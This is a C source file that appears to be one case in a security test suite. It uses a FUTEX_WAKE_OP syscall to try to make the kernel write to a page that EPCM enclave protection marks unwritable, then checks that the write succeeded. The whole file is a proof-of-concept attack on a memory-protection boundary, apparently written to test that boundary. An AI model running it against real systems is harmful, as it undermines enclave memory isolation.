// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * FUTEX_WAKE_OP has the kernel change a word of the caller's choice by a locked instruction,
 * and where that faults, have the fault handler make the page writable. The word is in a page
 * that the EPCM lets nobody write. R10.2. The hole is entry_epcm.
 */
#include <linux/futex.h>
#include <sys/syscall.h>

#include "granted.h"

void attack(void)
{
	struct scene s;
	u64 at = granted_word(&s);
	u32 own = 0;

	ATTEMPT(&s, syscall(SYS_futex, &own, FUTEX_WAKE_OP_PRIVATE, 1, 1, at,
			    FUTEX_OP(FUTEX_OP_SET, 0x123, FUTEX_OP_CMP_EQ, 0)));
	REQUIRE(*(volatile u32 *)at == 0x123);
	got_through("the kernel changed a word of a page that the EPCM lets nobody write");
}
